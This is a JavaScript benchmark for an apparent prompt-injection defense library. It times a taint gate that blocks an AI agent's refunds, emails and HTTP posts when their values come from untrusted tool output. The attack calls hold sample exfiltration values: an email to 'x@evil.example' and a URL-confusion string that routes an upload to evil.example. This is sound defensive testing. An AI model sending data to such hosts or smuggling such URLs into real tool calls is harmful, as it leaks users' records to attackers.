// Cost of the taint check with typed sink arguments (goal: ≤ 15 µs p50 per sensitive
// call with a 50-output history, typed parsing included): `node bench/typed-sinks.mjs [calls]`
// after `pnpm --filter @loopguard/injection build`. One run, side by side:
//   detection   taintGate() alone (the bench/gates.mjs row),
//   typed       provenance sinks with declared kinds (id, amount, email, url) plus detection,
//   auto        the same sinks given as names (kinds inferred per value),
// each on a run with a task, 50 outputs (one in ten flagged, one in five from a trusted tool)
// and 50 admitted calls. Calls alternate between a vouched value and an attacker's, so both
// the admit and the refusal paths are timed. Prints p50/p99 µs per check and the ratio to
// detection alone.
import { performance } from "node:perf_hooks";
import { RunState } from "@loopguard/core/plugin";
import { taintGate } from "../dist/index.js";

const calls = Number(process.argv[2] ?? 20_000);

function makeRun() {
  const run = new RunState({
    runId: "bench",
    agentId: "bench",
    task: "Refund order A1000 ($25.00) and email the receipt to help0@acme-shop.com, then post it to https://reports.acme-shop.com/upload",
  });
  for (let index = 0; index < 50; index += 1) {
    run.outputs.push({
      tool: index % 5 === 0 ? "lookup_customer" : "search_kb",
      toolUseId: `t${index}`,
      text: `Article ${index}: contact help${index}@acme-shop.com, order A${1000 + index}, see https://kb.acme-shop.com/a/${index}`,
      trust: index % 5 === 0 ? "trusted" : "untrusted",
      scan: { verdict: index % 10 === 0 ? "injection" : "clean", score: 0.1, rules: [] },
    });
  }
  for (let index = 0; index < 50; index += 1)
    run.calls.push({
      tool: "lookup_order",
      argsDigest: `d${index}`,
      toolUseId: `c${index}`,
      args: { order_id: `A${index}` },
      outputsBefore: index,
    });
  return run;
}

const typedSinks = [
  { tool: "issue_refund", args: { order_id: "id", amount: "amount" }, require: "trusted" },
  { tool: "send_email", args: { to: "email" }, require: "trusted" },
  { tool: "http_post", args: { url: "url" }, require: "trusted" },
];
const autoSinks = typedSinks.map((sink) => ({ ...sink, args: Object.keys(sink.args) }));
const gates = {
  detection: taintGate(),
  typed: taintGate({ sinks: typedSinks }),
  auto: taintGate({ sinks: autoSinks }),
};

function callOf(index, run) {
  const attack = index % 2 === 1;
  const which = index % 3;
  const [tool, args] =
    which === 0
      ? ["issue_refund", { order_id: attack ? "B2002" : "A1000", amount: 25, reason: "damaged" }]
      : which === 1
        ? ["send_email", { to: attack ? "x@evil.example" : "help0@acme-shop.com", body: "receipt" }]
        : [
            "http_post",
            {
              url: attack
                ? "https://reports.acme-shop.com}@evil.example/upload"
                : "https://reports.acme-shop.com/upload",
            },
          ];
  return {
    tool,
    args,
    toolUseId: `x${index}`,
    idempotencyKey: `bench:x${index}`,
    sensitive: true,
    idempotent: false,
    run,
  };
}

function stats(samples) {
  samples.sort((a, b) => a - b);
  const at = (q) => samples[Math.min(samples.length - 1, Math.floor(q * samples.length))];
  return { p50: +at(0.5).toFixed(2), p99: +at(0.99).toFixed(2) };
}

const result = { calls, history: { outputs: 50, admittedCalls: 50 }, gates: {} };
for (const [name, gate] of Object.entries(gates)) {
  const run = makeRun();
  const samples = [];
  const outcomes = { allow: 0, deny: 0 };
  for (let index = 0; index < calls; index += 1) {
    const call = callOf(index, run);
    const started = performance.now();
    const decision = gate.check(call);
    samples.push((performance.now() - started) * 1000);
    outcomes[decision.type === "allow" ? "allow" : "deny"] += 1;
  }
  result.gates[name] = { ...stats(samples.slice(1000)), ...outcomes };
}
// A run that read 5 MB of untrusted pages: the first check (the gate reads them once), the
// first refusal after it (naming where the value came from searches them), and the first
// check after a 1 MB trusted output (its values read once).
{
  const run = makeRun();
  const page = "Contact sales@vendor.example or call +1 415 555 0132 about order B2002. ".repeat(
    Math.ceil(1_000_000 / 72),
  );
  for (let index = 0; index < 5; index += 1)
    run.outputs.push({ tool: "browse", toolUseId: `p${index}`, text: page, trust: "untrusted" });
  let started = performance.now();
  gates.typed.check(callOf(0, run));
  result.firstCheckAfter5MbUntrustedMs = +(performance.now() - started).toFixed(1);
  started = performance.now();
  const refused = gates.typed.check(callOf(1, run));
  result.firstRefusalAfter5MbMs = +(performance.now() - started).toFixed(1);
  if (refused.type === "allow") throw new Error("the attack was admitted");
  run.outputs.push({ tool: "lookup_customer", toolUseId: "big", text: page, trust: "trusted" });
  started = performance.now();
  gates.typed.check(callOf(0, run));
  result.firstCheckAfter1MbTrustedMs = +(performance.now() - started).toFixed(1);
}
for (const name of ["typed", "auto"])
  result.gates[name].ratioToDetection = +(
    result.gates[name].p50 / result.gates.detection.p50
  ).toFixed(2);
console.log(JSON.stringify(result));
